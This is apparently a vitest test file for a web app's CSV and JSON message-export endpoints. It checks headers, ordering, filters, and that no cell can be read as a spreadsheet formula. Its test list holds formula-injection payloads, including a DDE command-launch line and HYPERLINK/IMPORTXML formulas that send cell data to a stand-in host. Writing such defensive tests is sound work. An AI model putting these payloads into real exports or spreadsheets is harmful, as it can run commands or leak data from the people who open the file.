import { expect, test } from 'vitest';
import { describeEachDatabase, type OpenTestDatabase } from '../../../../tests/support/databases.ts';
import { hostileHtml } from '../../../../tests/support/hostile-html.ts';
import { writeMessage } from '../../../../tests/support/messages.ts';
import { bearer, signInAs } from '../../../../tests/support/people.ts';
import { createTestApp } from '../../../../tests/support/test-app.ts';

async function openInbox(openTestDatabase: OpenTestDatabase) {
  const app = await createTestApp(openTestDatabase, { clock: { now: () => new Date('2026-03-15T23:30:00.000Z') } });
  const headers = bearer(await signInAs(app, 'staff'));
  const get = (path: string) => app.fetch(`/api/v1/messages/${path}`, { headers });
  return { app, get, write: (given?: Parameters<typeof writeMessage>[1]) => writeMessage(app, given) };
}

/** The cells of a table in which each is quoted. */
function readCells(csv: string): string[][] {
  const rows: string[][] = [];
  let rest = csv;
  let row: string[] = [];
  while (rest !== '') {
    const [all, cell, end] = /^"((?:[^"]|"")*)"(,|\r\n)/.exec(rest) ?? [];
    if (all === undefined || cell === undefined) throw new Error(`No cell begins here: ${rest.slice(0, 80)}`);
    row.push(cell.replaceAll('""', '"'));
    if (end !== ',') {
      rows.push(row);
      row = [];
    }
    rest = rest.slice(all.length);
  }
  return rows;
}

const columns = ['id', 'created_at', 'name', 'email', 'subject', 'message', 'is_read', 'is_suspected', 'suspicion'];

/** What spreadsheets have been made to run, or might be. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\tDDE',
  '\rDDE',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '−1+1',
  '﹦1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '"=1+1',
  '" =1+1"',
  "'=1+1",
  '\n=1+1',
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("https://evil.example/?x="&A1,"Error")`,
  `=IMPORTXML(CONCAT("https://evil.example/?", A1), "//a")`,
  `"";=cmd|' /C calc'!A0`,
  'Hello;=1+1',
  'Hello; "=1+1"',
  'Hello;-1+1;@SUM(1)',
];
const harmless = [
  'Hello',
  'a=b',
  '1+1',
  'Hello ;-) Ada',
  'Ada, Grace; Hopper',
  'first\n- second',
  '"quoted"',
  "it's",
  '',
];

describeEachDatabase('messages as a table', (openTestDatabase) => {
  test('have a line each, the newest first, in a file with the date of the day where the site is', async () => {
    const { write, get, app } = await openInbox(openTestDatabase);
    app.deps.config.time_zone = 'Europe/Berlin';
    const first = await write({ name: 'Ada', message: 'One,\n"two"', is_read: 1 });
    const second = await write({ name: 'Zoë', subject: '', message: '東京', is_suspected: 0 });
    const answer = await get('export.csv');
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="messages-2026-03-16.csv"',
      'cache-control': 'private, no-store',
      'x-content-type-options': 'nosniff',
    });
    const bytes = new Uint8Array(await answer.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const time = '2026-03-15T12:00:00.000Z';
    expect(readCells(new TextDecoder().decode(bytes))).toEqual([
      columns,
      [`${second}`, time, 'Zoë', 'ada@example.org', '', '東京', 'false', 'false', ''],
      [`${first}`, time, 'Ada', 'ada@example.org', 'Hello', 'One,\n"two"', 'true', 'false', ''],
    ]);
  });

  test('have no cell that a spreadsheet takes for a formula, and say what was written otherwise', async () => {
    const { write, get } = await openInbox(openTestDatabase);
    for (const cell of [...formulas, ...harmless]) {
      await write({ name: cell, subject: cell, message: cell, suspicion: cell });
    }
    const rows = readCells((await (await get('export.csv')).text()).replace(/^\ufeff/, ''))
      .slice(1)
      .toReversed();
    expect(rows).toHaveLength(formulas.length + harmless.length);
    const written = ({ 2: name, 4: subject, 5: message, 8: suspicion }: string[]) => [
      name,
      subject,
      message,
      suspicion,
    ];
    for (const [i, formula] of formulas.entries()) {
      for (const cell of written(rows[i] ?? [])) {
        expect(cell?.replaceAll("'", ''), formula).toBe(formula.replaceAll("'", ''));
        // As it is read where commas part cells, and where semicolons do.
        for (const part of [cell, ...(cell ?? '').split(';')]) {
          expect(part, formula).not.toMatch(/^[\s\p{Z}\p{C}"]*[=+@\-−＝＋＠－﹦]/u);
          expect(part, formula).not.toMatch(/^[\t\r]/);
        }
      }
    }
    for (const [i, text] of harmless.entries())
      expect(written(rows[formulas.length + i] ?? [])).toEqual(Array(4).fill(text));
  });

  test('as JSON have the same fields', async () => {
    const { write, get } = await openInbox(openTestDatabase);
    expect(await (await get('export.json')).text()).toBe('[]\n');
    const id = await write({ name: '=1+1', message: '</script>\n"x"', suspicion: 'Two links', is_suspected: 1 });
    const answer = await get('export.json?filter=suspected');
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      'content-type': 'application/json; charset=utf-8',
      'content-disposition': 'attachment; filename="messages-2026-03-15.json"',
      'cache-control': 'private, no-store',
      'x-content-type-options': 'nosniff',
    });
    const [message, ...others] = await answer.json();
    expect(Object.keys(message)).toEqual(columns);
    expect(message).toMatchObject({ id, name: '=1+1', message: '</script>\n"x"', is_read: false, is_suspected: true });
    expect(others).toEqual([]);
  });

  test('are those of the folder and the search, all of them, however many', async () => {
    const { write, get } = await openInbox(openTestDatabase);
    for (let i = 0; i < 510; i += 1) {
      await write({ message: `${i} ${i % 2 ? 'odd' : 'even'} offer`, is_read: i % 3 === 0 ? 1 : 0 });
    }
    const exported = async (query: string) =>
      (await (await get(`export.json${query}`)).json()).map(({ message }: { message: string }) =>
        Number.parseInt(message, 10),
      );
    const numbers = Array.from({ length: 510 }, (_, i) => 509 - i);
    expect(await exported('')).toEqual(numbers);
    expect(await exported('?filter=read')).toEqual(numbers.filter((i) => i % 3 === 0));
    expect(await exported('?search=OFF+odd')).toEqual(numbers.filter((i) => i % 2 === 1));
    expect(await exported('?search=even&filter=unread')).toEqual(numbers.filter((i) => i % 2 === 0 && i % 3 > 0));
    expect(await exported('?search=nothing')).toEqual([]);
    expect(await exported('?search=*')).toEqual([]);
    const lines = readCells((await (await get('export.csv?search=offer')).text()).replace(/^\ufeff/, ''));
    expect(lines).toHaveLength(511);
  });

  test('keep hostile HTML as it was written', async () => {
    const { write, get } = await openInbox(openTestDatabase);
    const texts = hostileHtml.map((html) => html.replaceAll('\0', '').slice(0, 1000));
    for (const message of texts) await write({ message });
    const exported = await (await get('export.json')).json();
    expect(exported.map(({ message }: { message: string }) => message).toReversed()).toEqual(texts);
    const rows = readCells((await (await get('export.csv')).text()).replace(/^\ufeff/, ''))
      .slice(1)
      .toReversed();
    expect(rows.map((row) => row[5]?.replaceAll("'", ''))).toEqual(texts.map((text) => text.replaceAll("'", '')));
  });
});
